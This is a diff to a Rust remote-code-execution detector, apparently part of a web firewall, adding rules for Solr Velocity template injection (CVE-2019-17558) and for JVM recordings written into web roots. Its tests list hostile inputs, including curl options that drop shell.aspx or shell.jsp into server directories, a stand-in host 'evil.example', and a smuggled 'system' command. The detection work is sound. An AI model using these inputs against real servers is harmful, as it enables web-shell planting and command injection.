@@ -427,6 +427,9 @@ impl Rce {
                 RCE_SSTI,
                 r"\b(?:gettemplatefilter|addafterfiltercallback)\s*\(",
             ),
+            // Solr's Velocity writer told to load templates from request parameters
+            // (CVE-2019-17558): the next request's `v.template.*` runs as a template.
+            (RCE_SSTI, r"params\.resource\.loader\.enabled"),
             // Twig 1.x: `{{_self.env.registerUndefinedFilterCallback("exec")}}`.
             (
                 RCE_SSTI,
@@ -434,10 +437,11 @@ impl Rce {
             ),
             // Options that make curl or wget write what they fetch to a script the web
             // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`), and the
-            // JVM's `vmLog output=` (through Jolokia's DiagnosticCommand) writing its log there.
+            // JVM's `vmLog output=` and `JFR.start filename=` (through Jolokia's
+            // DiagnosticCommand) writing a log or a recording there.
             (
                 RCE_ARGUMENT_INJECTION,
-                r#"(?:^|\s)(?:-o\s*|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
+                r#"(?:^|\s)(?:(?:-o\s*|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*)['"]?|filename\s*=\s*(?:/|[a-z]:[\\/]))[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
             ),
             // Options that make git, ssh, tar or rsync run a command of the caller's choosing.
             (
@@ -1498,6 +1502,7 @@ mod tests {
                 "https://example.jp/a.pdf\u{FF02} -o C:\\inetpub\\wwwroot\\shell.aspx \u{FF02}https://evil.example/s",
                 "x --output=/var/www/html/s.php",
                 "output=/opt/activemq/webapps/admin/shell.jsp",
+                "name=x duration=10s filename=/opt/activemq/webapps/api/shell.jsp",
                 "a.pdf\" -oC:\\inetpub\\wwwroot\\s.aspx",
                 "--output-dir /var/www/html/x.php",
                 "@{[system \"touch /tmp/blns.fail\"]}",
